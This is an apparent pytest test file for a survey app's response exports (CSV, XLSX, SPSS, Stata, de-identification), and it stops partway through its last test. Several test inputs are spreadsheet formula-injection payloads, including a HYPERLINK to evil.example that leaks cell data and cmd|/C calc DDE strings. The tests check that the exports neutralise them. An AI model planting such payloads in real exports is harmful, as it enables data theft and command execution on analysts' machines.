import csv
import io
import re
from datetime import UTC, datetime

import pytest
from django.core.management import CommandError, call_command

from exports.options import RESPONDENT_COLUMNS
from exports.tests.helpers import xlsx_rows
from exports.writers import responses_write_csv
from fileformats.tables import spreadsheet_safe
from respondents.tests.factories import login, make_respondents, make_school, save_page
from surveys.tests.factories import make_survey

pytestmark = pytest.mark.django_db


@pytest.fixture
def survey(client):
    survey = make_survey()
    alice, bob, _carol = make_respondents(survey, count=3, school=make_school("LIN", "Lincoln"), grade="7", role="student")
    login(client, alice)
    saves = [
        save_page(client, 1, {"q-colour": "red", "q-pets": ["fish", "cat"], "q-age": "11", "q-nickname": 'Al, "A"'}),
        save_page(client, 2, {"q-safe": "2", "q-born": "2014-03-04"}),
        save_page(client, 3, {"q-again": "1"}, nav="finish"),
    ]
    client.post("/logout/")
    login(client, bob)
    saves.append(save_page(client, 1, {"q-colour": "blue"}))
    assert all(response.json()["saved"] for response in saves)
    return survey


def read(text):
    return list(csv.reader(io.StringIO(text)))


ROSTER_COLUMNS = [f"roster_{field}" for field in RESPONDENT_COLUMNS]


def test_one_row_per_respondent_and_one_column_per_question_code_in_survey_order(survey):
    out = io.StringIO()
    assert responses_write_csv(survey=survey, stream=out) == 3
    header, alice, bob, carol = read(out.getvalue())
    assert header == ROSTER_COLUMNS + ["colour", "pets", "age", "nickname", "safe", "happy", "born", "story", "again"]
    row = dict(zip(header, alice, strict=False))
    assert row["roster_status"] == "completed" and row["roster_completed_at"]
    assert (row["colour"], row["pets"], row["age"], row["nickname"]) == ("red", "cat fish", "11", 'Al, "A"')
    assert (row["safe"], row["happy"], row["born"], row["again"]) == ("2", "", "2014-03-04", "1")
    assert (row["roster_school_code"], row["roster_school_name"], row["roster_grade"], row["roster_role"]) == (
        "LIN", "Lincoln", "7", "student")
    assert dict(zip(header, bob, strict=False))["roster_status"] == "in_progress"
    assert dict(zip(header, carol, strict=False))["roster_status"] == "not_started"
    assert set(carol[len(ROSTER_COLUMNS):]) == {""}


def test_the_export_reads_respondents_in_batches(survey, django_assert_num_queries):
    from exports.writers import _respondent_answers, _selection

    selection = _selection(survey=survey, using=None, school_ids=None, deidentified=False)
    # Three respondents in batches of two: (respondents + answers) twice, then one empty read.
    with django_assert_num_queries(5):
        rows = list(_respondent_answers(selection=selection, batch_size=2))
    assert len(rows) == 3


def test_a_shuffled_export_reads_the_ids_by_page_then_respondents_in_batches(survey, settings,
                                                                             django_assert_num_queries):
    from exports.writers import _respondent_answers, _selection

    settings.EXPORT_SMALL_SCHOOL_MIN = 1
    selection = _selection(survey=survey, using=None, school_ids=None, deidentified=True)
    # The ids (one page, then an empty one), then (respondents + answers) for each batch of two.
    with django_assert_num_queries(6):
        rows = list(_respondent_answers(selection=selection, batch_size=2))
    assert sorted(r.pk for r, _ in rows) == sorted(r.pk for r in survey.respondents.all())


def test_the_command_writes_the_file(survey, tmp_path):
    target = tmp_path / "responses.csv"
    call_command("export_responses", "small", "--format", "csv", "--output", str(target))
    assert len(read(target.read_text())) == 4
    from accounts.models import AuditEntry

    entry = AuditEntry.objects.get(action="export_downloaded")  # every export is in the audit log
    assert entry.username == "manage.py" and entry.survey_id == survey.pk and "3 respondents" in entry.detail


def test_the_command_refuses_an_unknown_survey():
    with pytest.raises(CommandError, match="No survey with the slug 'nope'"):
        call_command("export_responses", "nope", "--output", "-")


@pytest.mark.parametrize("cell, written", [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-5", "-5"), ("+7", "+7"), ("-2.5", "-2.5"), ("-1e3", "-1e3"),
    ("fine = good", "fine = good"), ("", ""), (42, 42), (None, None),
])
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe_and_numbers_stay_numbers(cell, written):
    assert spreadsheet_safe(cell) == written


def test_the_csv_export_writes_every_text_cell_safely(client):
    survey = make_survey()
    respondent = make_respondents(survey, external_id="=1+1", school=make_school("S1", "@school"))
    login(client, respondent)
    save_page(client, 1, {"q-nickname": "-A+B", "q-age": "12"})
    save_page(client, 3, {"q-story": '=HYPERLINK("x")'})
    out = io.StringIO()
    responses_write_csv(survey=survey, stream=out)
    header, row = read(out.getvalue())
    cells = dict(zip(header, row, strict=True))
    assert (cells["roster_external_id"], cells["roster_school_name"]) == ("'=1+1", "'@school")
    assert (cells["nickname"], cells["story"], cells["age"]) == ("'-A+B", "'=HYPERLINK(\"x\")", "12")


# ---------------------------------------------------------------- XLSX

def test_the_xlsx_export_holds_what_the_csv_holds(survey, tmp_path):
    from exports.writers import responses_write_xlsx

    out = io.StringIO()
    responses_write_csv(survey=survey, stream=out)
    assert responses_write_xlsx(survey=survey, path=tmp_path / "r.xlsx") == 3
    names, rows = xlsx_rows(tmp_path / "r.xlsx")
    assert names == ["Responses"]
    assert [[str(v) for v in row] for row in rows] == read(out.getvalue())


def test_the_xlsx_export_writes_a_formula_as_text_never_as_a_formula(client, tmp_path):
    from openpyxl import load_workbook

    from exports.writers import responses_write_xlsx

    survey = make_survey()
    respondent = make_respondents(survey, external_id="=1+1", school=make_school("S1", "@school"))
    login(client, respondent)
    save_page(client, 3, {"q-story": '=HYPERLINK("x")'})
    responses_write_xlsx(survey=survey, path=tmp_path / "r.xlsx")
    book = load_workbook(tmp_path / "r.xlsx")
    sheet = book.active
    header = [c.value for c in sheet[1]]
    cells = {name: sheet.cell(row=2, column=n + 1) for n, name in enumerate(header)}
    assert cells["roster_external_id"].value == "=1+1" and cells["roster_external_id"].data_type == "s"
    assert cells["story"].value == '=HYPERLINK("x")' and cells["story"].data_type == "s"


def test_past_a_sheet_s_rows_there_is_one_sheet_per_district_and_the_file_says_so(tmp_path):
    from exports.writers import responses_write_xlsx

    survey = make_survey()
    make_respondents(survey, 3, school=make_school("LIN", "Lincoln", ("D1", "One")))
    make_respondents(survey, 2, school=make_school("ADA", "Adams", ("D2", "Two")))
    assert responses_write_xlsx(survey=survey, path=tmp_path / "r.xlsx", max_rows=3) == 5
    names, about = xlsx_rows(tmp_path / "r.xlsx", "About")
    assert names == ["About", "D1", "D1 (2)", "D2"]
    assert "one sheet per district" in about[0][0].lower()
    counts = {name: len(xlsx_rows(tmp_path / "r.xlsx", name)[1]) - 1 for name in names[1:]}
    assert counts == {"D1": 2, "D1 (2)": 1, "D2": 2}


def test_the_command_writes_xlsx_and_refuses_it_on_standard_output(survey, tmp_path):
    call_command("export_responses", survey.slug, "--format", "xlsx", "--output", str(tmp_path / "r.xlsx"),
                 stderr=io.StringIO())
    assert len(xlsx_rows(tmp_path / "r.xlsx")[1]) == 4
    with pytest.raises(CommandError, match="needs --output"):
        call_command("export_responses", survey.slug, "--format", "xlsx")


# ---------------------------------------------------------------- every format, options, de-identification

def export(survey, tmp_path, format="csv", **options):
    from exports.options import ExportOptions
    from exports.writers import export_write

    scope = {key: options.pop(key) for key in ("school_ids", "progress") if key in options}
    return export_write(survey=survey, format=format, options=ExportOptions(**options), directory=tmp_path, **scope)


def csv_rows(path):
    with open(path, newline="", encoding="utf-8") as f:
        header, *rows = list(csv.reader(f))
    return [dict(zip(header, row, strict=True)) for row in rows]


def data_lines(path):
    """The SPSS/Stata data file's lines, each cut at its tabs, as GET DATA and import delimited cut them."""
    with open(path, newline="", encoding="utf-8") as f:
        text = f.read()
    assert text.endswith("\n")
    return [line.split("\t") for line in text[:-1].split("\n")]


_SPSS_LITERAL = r"""("(?:[^"]|"")*"|X'[0-9A-F]*')"""


def _spss_literal(literal):
    if literal.startswith("X'"):
        return bytes.fromhex(literal[2:-1]).decode("utf-8")
    return literal[1:-1].replace('""', '"')


def spss_rows(result):
    """The rows of an SPSS export as SPSS holds them: cut as its GET DATA says, and every string variable's
    escapes undone by the .sps's own REPLACE commands, in their order."""
    sps = result.syntax.read_text()
    assert '/DELIMITERS="\\t"' in sps and "QUALIFIER" not in sps and "/DELCASE=LINE" in sps
    declared = sps.split("/VARIABLES=\n")[1].split("\n.")[0].split()
    strings = {name for name, fmt in zip(declared[::2], declared[1::2], strict=True) if fmt.startswith("A")}
    steps = [(_spss_literal(a), _spss_literal(b)) for a, b in re.findall(
        rf"COMPUTE roster_text = REPLACE\(roster_text, {_SPSS_LITERAL}, {_SPSS_LITERAL}\)\.", sps)]
    header, *lines = data_lines(result.data)
    assert header == declared[::2]
    rows = []
    for line in lines:
        row = dict(zip(header, line, strict=True))
        for name in strings:
            for written, text in steps:
                row[name] = row[name].replace(written, text)
        rows.append(row)
    return rows


def stata_rows(result):
    """The rows of a Stata export as Stata holds them (before its missing codes are emptied): cut as its import
    delimited says, and every string column's escapes undone by the .do's own subinstr, in their order."""
    do = result.syntax.read_text()
    assert 'delimiters("\\t") bindquote(nobind) stripquotes(no)' in do
    header, *lines = data_lines(result.data)
    string_columns = do.split("stringcols(")[1].split(")")[0].split() if "stringcols(" in do else []
    strings = [header[int(n) - 1] for n in string_columns]
    assert f"foreach v of varlist {' '.join(strings)} {{" in do

    def text(expression):
        return "".join(chr(int(n)) for n in re.findall(r"char\((\d+)\)", expression))
    steps = [(text(a), text(b)) for a, b in re.findall(r"subinstr\(`v', ([^,]+), ([^,]+), \.\)", do)]
    rows = []
    for line in lines:
        row = dict(zip(header, line, strict=True))
        for name in strings:
            for written, plain in steps:
                row[name] = row[name].replace(written, plain)
        rows.append(row)
    return rows


def test_an_export_writes_its_files_under_the_survey_s_slug(survey, tmp_path):
    names = {format: [p.name for p in export(survey, tmp_path, format).files] for format in ("csv", "xlsx", "spss",
                                                                                               "stata")}
    assert names == {
        "csv": ["small.csv", "small-codebook.xlsx"], "xlsx": ["small.xlsx", "small-codebook.xlsx"],
        "spss": ["small.dat", "small.sps", "small-codebook.xlsx"],
        "stata": ["small.dat", "small.do", "small-codebook.xlsx"],
    }
    assert sorted(p.name for p in tmp_path.iterdir()) == ["small-codebook.xlsx", "small.csv", "small.dat", "small.do",
                                                          "small.sps", "small.xlsx"]


def test_the_spss_and_stata_data_holds_codes_a_blank_answer_and_an_unsaved_page_apart(survey, tmp_path):
    result = export(survey, tmp_path, "spss")
    alice, bob, carol = spss_rows(result)
    # Alice saved every page but left "happy" blank; Bob saved page 1 only; Carol saved nothing.
    assert (alice["safe"], alice["happy"], alice["again"], alice["story"]) == ("2", "-98", "1", "")
    assert (bob["colour"], bob["pets"], bob["age"], bob["safe"], bob["born"]) == ("blue", "-98", "-98", "-99", "-99")
    assert {carol[name] for name in ("colour", "pets", "age", "safe", "happy", "born", "again")} == {"-99"}
    # Free text may hold anything a code could be: both kinds of missing are an empty cell.
    assert (bob["nickname"], carol["story"]) == ("", "")


def test_the_spss_syntax_reads_the_data_beside_it_with_labels_levels_and_missing_values(survey, tmp_path):
    result = export(survey, tmp_path, "spss")
    sps = result.syntax.read_text()
    assert '/FILE="small.dat"' in sps and result.data.name == "small.dat"
    for name, label in [("colour", "Favourite colour?"), ("pets", "Pets?"), ("safe", "I feel safe."),
                        ("story", "Tell us more."), ("roster_respondent_id", "Respondent id (this system's)")]:
        assert f'{name} "{label}"' in sps
    assert '"red" "Red"\n    "blue" "Blue"' in sps
    assert "  /safe\n    1 \"Disagree\"\n    2 \"Agree\"\n    -99 \"Page not saved (not reached)\"\n" in sps
    assert "/safe (-99, -98, -97)" in sps and '  colour ("-99", "-98", "-97")' in sps and "story (" not in sps
    levels = {f"{level})": " ".join(names.replace("/", " ").split()) for names, level in re.findall(
        r"([^()]+)\((\w+)\)", sps.split("VARIABLE LEVEL\n")[1].split("\n.")[0])}
    assert levels["SCALE)"] == "age" and levels["ORDINAL)"] == "safe happy"
    assert {"colour", "pets", "born", "story", "again", "roster_school_code"} <= set(levels["NOMINAL)"].split())
    header = data_lines(result.data)[0]
    variables = sps.split("/VARIABLES=\n")[1].split("\n.")[0].split()
    assert variables[::2] == header and variables[1::2][header.index("age")] == "F12.0"


def test_the_stata_do_file_reads_the_data_beside_it_with_labels_and_extended_missing_values(survey, tmp_path):
    result = export(survey, tmp_path, "stata")
    do = result.syntax.read_text()
    assert 'import delimited using `"small.dat"\', clear varnames(1)' in do
    header = data_lines(result.data)[0]
    numeric = [header[int(n) - 1] for n in do.split("numericcols(")[1].split(")")[0].split()]
    assert numeric == ["roster_respondent_id", "age", "safe", "happy", "again"]
    assert "mvdecode age safe happy again, mv(-99=.a \\ -98=.b \\ -97=.c)" in do
    assert "foreach v of varlist colour pets born {" in do
    for name in header:
        assert f"label variable {name} `\"" in do
    assert "label define safe 1 `\"Disagree\"', add\nlabel define safe 2 `\"Agree\"', add\n" in do
    assert "label define safe .a `\"Page not saved (not reached)\"', add" in do
    assert "label values again again" in do
    assert "* colour: Stata cannot put value labels on strings" in do


def test_labels_write_choice_labels_in_csv_and_xlsx_and_codes_stay_in_statistics_data(survey, tmp_path):
    alice = csv_rows(export(survey, tmp_path, labels=True).data)[0]
    assert (alice["colour"], alice["pets"], alice["safe"], alice["age"]) == ("Red", "Cat; Fish", "Agree", "11")
    _, rows = xlsx_rows(export(survey, tmp_path, "xlsx", labels=True).data)
    assert dict(zip(rows[0], rows[1], strict=True))["pets"] == "Cat; Fish"
    assert stata_rows(export(survey, tmp_path, "stata", labels=True))[0]["colour"] == "red"


def test_multiple_choice_as_columns_is_one_0_1_column_per_choice_in_every_format(survey, tmp_path):
    alice, bob, carol = csv_rows(export(survey, tmp_path, multiple="columns").data)
    assert (alice["pets_cat"], alice["pets_dog"], alice["pets_fish"]) == ("1", "0", "1") and "pets" not in alice
    assert bob["pets_cat"] == carol["pets_cat"] == ""
    _, rows = xlsx_rows(export(survey, tmp_path, "xlsx", multiple="columns").data)
    assert [dict(zip(rows[0], row, strict=True))["pets_dog"] for row in rows[1:]] == [0, "", ""]
    result = export(survey, tmp_path, "spss", multiple="columns")
    alice, bob, carol = spss_rows(result)
    assert (alice["pets_fish"], bob["pets_fish"], carol["pets_fish"]) == ("1", "-98", "-99")
    assert '/pets_fish "Pets?: Fish"' in result.syntax.read_text()


def test_roster_fields_choose_the_respondent_columns(survey, tmp_path):
    row = csv_rows(export(survey, tmp_path, roster_fields=("district_code", "grade", "current_page")).data)[0]
    assert list(row)[:3] == ["roster_district_code", "roster_grade", "roster_current_page"]
    assert "roster_external_id" not in row and (row["roster_district_code"], row["roster_grade"]) == ("D1", "7")


@pytest.fixture
def schools(settings):
    """Lincoln: 4 respondents, one withdrawn (3 counted: kept); Adams: 2 (suppressed); 1 with no school."""
    from accounts.scopes import COMMAND_LINE
    from rosters.services import respondent_withdraw

    settings.EXPORT_SMALL_SCHOOL_MIN = 3
    survey = make_survey()
    lincoln, adams = make_school("LIN", "Lincoln"), make_school("ADA", "Adams")
    people = make_respondents(survey, 4, school=lincoln, external_id="", display_name="@SUM(1)")
    make_respondents(survey, 2, school=adams)
    make_respondents(survey, 1)
    respondent_withdraw(scope=COMMAND_LINE, respondent_ids=[people[0].pk], survey=survey)
    return survey, lincoln, adams


def test_a_deidentified_export_drops_who_people_are_and_leaves_small_schools_out(schools, tmp_path):
    survey, lincoln, _ = schools
    asked = ("respondent_id", "external_id", "display_name", "school_code", "grade")
    result = export(survey, tmp_path, "xlsx", roster_fields=asked, deidentified=True)
    _, rows = xlsx_rows(result.data)
    assert rows[0][:2] == ["roster_school_code", "roster_grade"]
    assert not {"roster_respondent_id", "roster_external_id", "roster_display_name"} & set(rows[0])
    assert [row[0] for row in rows[1:]] == ["LIN"] * 3
    assert (result.respondent_count, result.suppressed_schools, result.suppressed_respondents) == (3, 1, 3)
    _, about = xlsx_rows(result.codebook, "About")
    about = dict((row[0], row[1]) for row in about)
    assert (about["Respondents"], about["Suppressed schools"], about["Suppressed respondents"]) == (3, 1, 3)
    assert "fewer than 3 respondents" in about["Suppression rule"]


def test_a_deidentified_export_shuffles_its_rows_and_writes_times_as_days(settings, tmp_path):
    from respondents.models import Respondent

    settings.EXPORT_SMALL_SCHOOL_MIN = 3
    survey = make_survey()
    school = make_school("LIN", "Lincoln")
    # One grade a respondent, so that a row shows whom it is; roster order is grade order.
    for grade in range(40):
        make_respondents(survey, school=school, grade=str(grade))
    Respondent.objects.filter(survey=survey).update(started_at=datetime(2026, 11, 25, 3, 30, 15, 123456,
                                                                                 tzinfo=UTC))
    in_order = [row["roster_grade"] for row in csv_rows(export(survey, tmp_path, roster_fields=("grade",)).data)]
    assert in_order == [str(grade) for grade in range(40)]
    result = export(survey, tmp_path, "stata", roster_fields=("grade", "started_at"), deidentified=True)
    rows = stata_rows(result)
    # One chance in 40! that a shuffle leaves roster order.
    assert [row["roster_grade"] for row in rows] != in_order and sorted(row["roster_grade"] for row in rows) == sorted(
        in_order)
    # 03:30 UTC on the 25th is the evening of the 24th in Chicago.
    assert {row["roster_started_at"] for row in rows} == {"2026-11-24"}
    _, about = xlsx_rows(result.codebook, "About")
    about = dict((row[0], row[1]) for row in about)
    assert about["Row order"] == "shuffled (de-identified)" and about["Times"].startswith("the day only")


def test_times_are_iso_8601_in_the_local_zone_with_its_offset_to_the_second(tmp_path):
    from respondents.models import Respondent

    survey = make_survey()
    make_respondents(survey)
    Respondent.objects.filter(survey=survey).update(
        started_at=datetime(2026, 11, 25, 3, 30, 15, 123456, tzinfo=UTC),
        completed_at=datetime(2026, 7, 1, 17, 0, 0, 999999, tzinfo=UTC))
    fields = ("started_at", "completed_at", "last_saved_at")
    for format, rows in (("csv", lambda result: csv_rows(result.data)), ("spss", spss_rows),
                         ("xlsx", lambda result: [dict(zip(*xlsx_rows(result.data)[1], strict=True))])):
        (tmp_path / format).mkdir()
        row = rows(export(survey, tmp_path / format, format, roster_fields=fields))[0]
        # Chicago is six hours behind UTC in November, five in July (daylight saving time).
        assert (row["roster_started_at"], row["roster_completed_at"], row["roster_last_saved_at"]) == (
            "2026-11-24T21:30:15-06:00", "2026-07-01T12:00:00-05:00", ""), format


def test_an_export_that_is_not_deidentified_keeps_every_respondent(schools, tmp_path):
    survey, _, _ = schools
    result = export(survey, tmp_path, roster_fields=("display_name", "school_code"))
    rows = csv_rows(result.data)
    assert len(rows) == 7 and result.suppressed_respondents == 0
    # A slip name asked for is formula-safe, as every text cell.
    assert rows[0]["roster_display_name"] == "'@SUM(1)"


def test_an_export_limited_to_schools_holds_only_their_respondents(schools, tmp_path):
    survey, lincoln, adams = schools
    rows = csv_rows(export(survey, tmp_path, school_ids=frozenset({adams.pk})).data)
    assert [row["roster_school_code"] for row in rows] == ["ADA", "ADA"]
    everyone = csv_rows(export(survey, tmp_path).data)
    assert sorted(row["roster_school_code"] for row in everyone) == ["", "ADA", "ADA", "LIN", "LIN", "LIN", "LIN"]
    result = export(survey, tmp_path, school_ids=frozenset({lincoln.pk}), deidentified=True)
    assert (result.respondent_count, result.suppressed_schools) == (3, 0)


def test_every_text_cell_of_csv_is_formula_safe_and_statistics_data_keeps_raw_values(client, tmp_path):
    survey = make_survey()
    respondent = make_respondents(survey, external_id="=1+1", display_name="@SUM(1)")
    login(client, respondent)
    save_page(client, 3, {"q-story": '=HYPERLINK("x")\nline two', "q-again": "1"})
    fields = ("external_id", "display_name")
    row = csv_rows(export(survey, tmp_path, roster_fields=fields).data)[0]
    assert (row["roster_external_id"], row["roster_display_name"], row["story"]) == (
        "'=1+1", "'@SUM(1)", "'=HYPERLINK(\"x\")\nline two")
    row = spss_rows(export(survey, tmp_path, "spss", roster_fields=fields))[0]
    assert (row["roster_external_id"], row["roster_display_name"], row["story"]) == (
        "=1+1", "@SUM(1)", '=HYPERLINK("x")\nline two')


TRICKY_TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", '"=1+1"',
    'He said "hi",\tthen\nleft\r\nfor good', "C:\\new\\table \\t \\n \\b \\= \\\\", "a backslash at the end \\",
    "Más o menos: 你好 👋", "-5", "'quoted'", "\\b\\t",
]


@pytest.fixture
def tricky(client):
    """One respondent per awkward text, typed into a long text; awkward roster values and choice values too."""
    from surveys.services import survey_create

    survey = survey_create(document={"slug": "tricky", "title": "Tricky", "status": "open", "pages": [{"questions": [
        {"code": "sign", "kind": "single", "prompt": "Sign?",
         "choices": [{"value": "-a", "label": "Minus a"}, {"value": "b", "label": "B"}]},
        {"code": "note", "kind": "long_text", "prompt": "Anything?", "max_length": 2000}]}]})
    school = make_school("S1", '=cmd|"/C calc"!A0')
    for text in TRICKY_TEXTS:
        respondent = make_respondents(survey, school=school, external_id=text.replace("\n", " ")[:64],
                                      display_name='"@SUM(1)"')
        login(client, respondent)
        assert save_page(client, 1, {"q-sign": "-a", "q-note": text}).json()["saved"]
        client.post("/logout/")
    return survey


def test_the_spss_and_stata_data_give_back_every_text_exactly(tricky, tmp_path):
    from respondents.models import Answer, Respondent

    stored = list(Answer.objects.filter(question__code="note").order_by("respondent_id").values_list("value",
                                                                                                   flat=True))
    assert len(set(stored)) == len(TRICKY_TEXTS) and any("\t" in text and "\n" in text for text in stored)
    roster = list(Respondent.objects.order_by("pk").values_list("external_id", "display_name"))
    fields = ("external_id", "display_name", "school_name")
    for format, read_back in (("spss", spss_rows), ("stata", stata_rows)):
        (tmp_path / format).mkdir()
        rows = read_back(export(tricky, tmp_path / format, format, roster_fields=fields))
        assert [row["note"] for row in rows] == stored, format
        assert [(row["roster_external_id"], row["roster_display_name"]) for row in rows] == roster, format
        assert {row["roster_school_name"] for row in rows} == {'=cmd|"/C calc"!A0'}
        assert {row["sign"] for row in rows} == {"-a"}


def test_no_cell_of_the_spss_and_stata_data_file_starts_with_what_a_spreadsheet_runs(tricky, tmp_path):
    from fileformats.tables import FORMULA_STARTS

    result = export(tricky, tmp_path, "spss", roster_fields=("external_id", "display_name", "school_name"))
    # Not a file a spreadsheet opens as its own, as it would a CSV.
    assert result.data.name == "tricky.dat"
    header, *lines = data_lines(result.data)
    assert len(lines) == len(TRICKY_TEXTS) and {len(line) for line in lines} == {len(header)}
    cells = [cell for line in lines for cell in line]
    assert not [cell for cell in cells if cell.startswith((*FORMULA_STARTS, '"')) and not re.fullmatch(
        r"-?\d+(\.\d+)?", cell)]
    assert not [cell for cell in cells if "\r" in cell or "\t" in cell]
    # SPSS reads each string variable as wide as its widest cell as written.
    declared = result.syntax.read_text().split("/VARIABLES=\n")[1].split("\n.")[0].split()
    widths = {name: int(fmt[1:]) for name, fmt in zip(declared[::2], declared[1::2], strict=True)
              if fmt.startswith("A")}
    for column, name in enumerate(header):
        if name in widths:
            assert max(len(line[column].encode()) for line in lines) <= widths[name], name


def test_progress_is_reported_every_thousand_rows_and_at_the_end(schools, tmp_path, monkeypatch):
    from exports import writers as exports

    monkeypatch.setattr(exports, "PROGRESS_EVERY", 3)
    calls = []
    export(schools[0], tmp_path, progress=lambda done, total: calls.append((done, total)))
    assert calls == [(3, 7), (6, 7), (7, 7)]


def test_a_failed_export_leaves_no_file_and_an_earlier_export_untouched(survey, tmp_path, monkeypatch):
    from exports import writers

    (tmp_path / "small.dat").write_text("earlier")

    def broken(**kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(writers, "codebook_write", broken)  # the last file written
    with pytest.raises(OSError, match="disk full"):
        export(survey, tmp_path, "spss")
    assert [p.name for p in tmp_path.iterdir()] == ["small.dat"] and (tmp_path / "small.dat").read_text() == "earlier"


def test_a_bad_format_or_directory_is_refused(survey, tmp_path):
    from exports.options import ExportError, ExportOptions
    from exports.writers import export_write

    with pytest.raises(ExportError, match="Unknown format 'sav'"):
        export_write(survey=survey, format="sav", options=ExportOptions(), directory=tmp_path)
    with pytest.raises(ExportError, match="No directory"):
        export_write(survey=survey, format="csv", options=ExportOptions(), directory=tmp_path / "absent")


def test_an_export_s_files_are_bundled_in_one_zip(survey, tmp_path):
    import zipfile

    from exports.writers import export_zip

    (tmp_path / "out").mkdir()
    result = export(survey, tmp_path / "out", "stata")
    bundle = export_zip(files=result.files, path=tmp_path / "small.zip")
    with zipfile.ZipFile(bundle) as z:
        assert z.namelist() == ["small.dat", "small.do", "small-codebook.xlsx"]
        assert z.read("small.do") == result.syntax.read_bytes()
        assert {info.compress_type for info in z.infolist()} == {zipfile.ZIP_DEFLATED}


# ---------------------------------------------------------------- awkward codes and labels

AWKWARD = {
    "slug": "awkward", "title": 'The "awkward" survey', "status": "open",
    "pages": [{"title": "Only", "questions": [
        {"code": "a" * 32, "kind": "integer", "prompt": "Thirty-two characters, Stata's most"},
        {"code": "reading_alone", "kind": "single", "prompt": "Alone",
         "choices": [{"value": "1", "label": 'Never "ever"'}, {"value": "2", "label": "Often`s $HOME"}]},
        {"code": "reading_together", "kind": "single", "prompt": "Together",
         "choices": [{"value": "-99", "label": "Refused"}, {"value": "1", "label": "Yes"}]},
        {"code": "said", "kind": "short_text", "prompt": 'He said "hi"\' then\nleft; ' + "x" * 300},
        {"code": "where", "kind": "multiple", "prompt": "Where",
         "choices": [{"value": "a.b", "label": "A dot"}, {"value": "a-b", "label": "A dash"}]},
    ]}],
}


def header_of(result):
    """The names in an export's data file, whatever its format."""
    if result.data.suffix == ".xlsx":
        return xlsx_rows(result.data)[1][0]
    if result.data.suffix == ".dat":
        return data_lines(result.data)[0]
    return read(result.data.read_text())[0]


def test_a_question_s_variable_is_named_by_its_code_in_every_format_and_roster_columns_are_prefixed(client, tmp_path):
    from surveys.tests.factories import make_demo_survey

    # The demo asks "role" and "grade", which the roster has too.
    survey = make_demo_survey()
    make_respondents(survey, count=2, grade="7", role="student")
    for format in ("csv", "xlsx", "spss", "stata"):
        (tmp_path / format).mkdir()
        result = export(survey, tmp_path / format, format)
        header = header_of(result)
        assert header[:len(ROSTER_COLUMNS)] == ROSTER_COLUMNS, format
        assert header[len(ROSTER_COLUMNS):len(ROSTER_COLUMNS) + 4] == ["role", "grade", "grade_taught",
                                                                       "grade_child"], format
        _, variables = xlsx_rows(result.codebook, "Variables")
        assert [row[0] for row in variables[1:]] == header, format
        assert {row[0]: row[1] for row in variables[1:]}["grade"] == "grade"
    # The names do not depend on which roster fields are asked for.
    fewer = header_of(export(survey, tmp_path, "stata", roster_fields=("school_code",)))
    assert fewer[:3] == ["roster_school_code", "role", "grade"]


def test_a_survey_loaded_before_the_naming_rule_gets_legal_names_that_never_clash(tmp_path):
    from surveys.models import Question
    from surveys.variable_names import is_reserved

    survey = make_survey(**AWKWARD)
    for code, legacy in (("a" * 32, "a" * 40), ("reading_alone", "in"), ("reading_together", "Reading_alone_x"),
                         ("said", "reading_alone_x")):
        Question.objects.filter(survey=survey, code=code).update(code=legacy)
    result = export(survey, tmp_path, "stata", roster_fields=("grade",), multiple="columns")
    header = header_of(result)
    assert header == ["roster_grade", "a" * 32, "in_", "Reading_alone_x", "reading_alone_x_2", "where_a_b",
                      "where_a_b_2"]
    assert all(len(name) <= 32 and name[0].isalpha() and not is_reserved(name) for name in header)
    _, variables = xlsx_rows(result.codebook, "Variables")
    assert [(row[0], row[1]) for row in variables[2:5]] == [("a" * 32, "a" * 40), ("in_", "in"),
                                                            ("Reading_alone_x", "Reading_alone_x")]
    assert header_of(export(survey, tmp_path, "csv", roster_fields=("grade",), multiple="columns")) == header


def test_quotes_and_line_breaks_in_labels_are_escaped_for_each_tool_and_cut_to_its_limits(tmp_path):
    survey = make_survey(**AWKWARD)
    sps = export(survey, tmp_path, "spss", roster_fields=()).syntax.read_text()
    assert '/said "He said ""hi""\' then left; ' in sps
    assert '1 "Never ""ever"""' in sps and '2 "Often`s $HOME"' in sps
    label = sps.split("/said ")[1].split("\n  /")[0]
    text = "".join(part.strip()[1:-1] for part in label.split(" +\n")).replace('""', '"')
    assert "+\n" in label and text.endswith("x") and len(text.encode()) == 256
    do = export(survey, tmp_path, "stata", roster_fields=()).syntax.read_text()
    assert "label variable said `\"He said \"hi\" ' then left; " + "x" * 55 + "\"'\n" in do
    assert "label define reading_alone 1 `\"Never \"ever\"\"', add" in do
    assert "label define reading_alone 2 `\"Often's \\$HOME\"', add" in do


def test_a_choice_whose_value_is_a_missing_code_gets_no_codes(tmp_path):
    survey = make_survey(**AWKWARD)
    sps = export(survey, tmp_path, "spss", roster_fields=()).syntax.read_text()
    missing = sps.split("MISSING VALUES\n")[1].split("\n.")[0]
    # The unbounded integer question and the choice valued -99 could hold a code as an answer.
    assert "reading_alone (-99, -98, -97)" in missing
    assert "reading_together" not in missing and "a" * 32 not in missing


# ---------------------------------------------------------------- the command, every format

@pytest.mark.parametrize("format, suffix, beside", [
    ("csv", ".csv", ["r-codebook.xlsx", "r.csv"]), ("xlsx", ".xlsx", ["r-codebook.xlsx", "r.xlsx"]),
    ("spss", ".dat", ["r-codebook.xlsx", "r.dat", "r.sps"]), ("stata", ".dat", ["r-codebook.xlsx", "r.dat", "r.do"]),
])
def test_the_command_writes_every_format_with_its_codebook_beside_it(survey, tmp_path, format, suffix, beside):
    err = io.StringIO()
    call_command("export_responses", survey.slug, "--format", format, "--output", str(tmp_path / f"r{suffix}"),
                 "--multiple", "columns", "--roster-fields", "school_code,grade", "--labels", stderr=err)
    assert sorted(p.name for p in tmp_path.iterdir()) == beside
    assert "Exported 3 respondents" in err.getvalue()
    if format != "xlsx":
        row = csv_rows(tmp_path / "r.csv")[0] if format == "csv" else dict(zip(*data_lines(tmp_path / "r.dat")[:2],
                                                                             strict=True))
        assert list(row)[:2] == ["roster_school_code", "roster_grade"]
        assert row["pets_cat"] == "1" and row["colour"] == ("Red" if format == "csv" else "red")


def test_the_command_writes_csv_to_standard_output_without_a_codebook(survey, capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
